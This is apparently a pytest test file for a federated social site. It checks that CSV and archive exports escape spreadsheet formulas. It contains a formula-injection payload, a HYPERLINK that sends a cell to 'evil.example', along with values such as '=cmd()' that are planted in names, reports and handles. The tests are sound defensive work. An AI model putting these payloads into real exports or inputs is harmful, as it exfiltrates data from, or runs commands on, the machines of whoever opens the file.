"""Every table that a site gives out, with formulas wherever somebody may have written them."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest

from fedirse.assembly import job_kinds
from fedirse.base.clock import FixedClock
from fedirse.jobs import JobRunner
from fedirse.social.audiences.model import Audience, AudienceKind
from fedirse.social.posts.actions import publish_post
from fedirse.social.posts.model import Draft
from tests.social.posts.composing.composer import compose
from tests.visitors import Shop

FORMULA = '=HYPERLINK("https://evil.example?"&A1;"Voir")'
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formulas(table: str) -> list[str]:
    """The cells that a spreadsheet would run."""
    rows = list(csv.reader(io.StringIO(table)))
    assert len(rows) > 1, "a table without rows shows nothing"
    return [cell for row in rows for cell in row if cell.lstrip().startswith(BEGINS)]


@pytest.mark.attack("CNT-030")
async def test_no_cell_of_any_table_of_the_site_is_a_formula(shop: Shop) -> None:
    marc, lea = await shop.sign_in("marc"), await shop.sign_in("lea")
    await lea.post("/settings/profile", {"name": FORMULA})
    for begin in ("", "\t", " ", "\r\n", "@SUM(A1)", "+1", "-1+", "\uff1d"):
        await lea.post("/report", {"category": "spam", "actor": "ines", "words": f"{begin}{FORMULA}"})
    blocked = {"host": "mal.example", "reason": FORMULA, "sure": "1"}
    assert (await marc.post("/site/blocks", blocked)).status_code == 303
    assert (await marc.post("/site/people/lea/disable")).status_code == 303
    for path, marked in (("/site/reports.csv", True), ("/site/blocks.csv", True), ("/site/audit.csv", False)):
        answer = await marc.get(path)
        assert (answer.status_code, answer.headers["content-type"].partition(";")[0]) == (200, "text/csv"), path
        assert answer.headers["content-disposition"].startswith("attachment"), path
        assert formulas(answer.text) == [], path
        assert ("'=HYPERLINK" in answer.text) == marked, path


@pytest.mark.attack("CNT-030")
async def test_no_cell_of_the_tables_about_an_erasure_is_a_formula(shop: Shop) -> None:
    ines, evil = await shop.person("ines"), await shop.stranger("=cmd()", host="mal.example")
    await shop.let_follow(evil.actor, ines)
    await shop.site.write(publish_post, shop.site, ines, Draft("Bonjour", Audience(AudienceKind.PUBLIC)), shop.site.clock.now())
    marc = await shop.sign_in("marc")
    await marc.post("/site/people/ines/erase", {"handle": "ines"})
    await JobRunner(job_kinds(), lambda: [shop.site]).run_until_idle(shop.site)
    # What another server answered; its first words are kept with the delivery.
    await shop.site.write(lambda tx: tx.exec_driver_sql("UPDATE deliveries SET answer = '=cmd()', state = 'refused'").rowcount)
    table = (await marc.get("/site/people/ines/erase.csv")).text
    assert "'=cmd()" in table
    assert formulas(table) == []


@pytest.mark.attack("CNT-030")
async def test_no_cell_of_somebodys_own_data_is_a_formula(shop: Shop) -> None:
    ines, person = await shop.sign_in("ines"), await shop.person("ines")
    for handle in ("=cmd()", "+cmd()", "-cmd()"):
        await shop.let_follow(person, (await shop.stranger(handle, host="mal.example")).actor)
    await compose(ines, "Bonjour", audience="public")
    await ines.post("/settings/data/export")
    clock = shop.site.clock
    assert isinstance(clock, FixedClock)
    await JobRunner(job_kinds(), lambda: [shop.site]).run_until_idle(shop.site)
    clock.advance(timedelta(minutes=1))
    answer = await ines.get("/settings/data/archive.zip")
    assert answer.status_code == 200
    found = zipfile.ZipFile(io.BytesIO(answer.content))
    tables = {name: found.read(name).decode() for name in found.namelist() if name.endswith(".csv")}
    assert "'=cmd()@mal.example" in tables["following.csv"]
    for name, table in tables.items():
        assert [cell for row in csv.reader(io.StringIO(table)) for cell in row if cell.lstrip().startswith(BEGINS)] == [], name
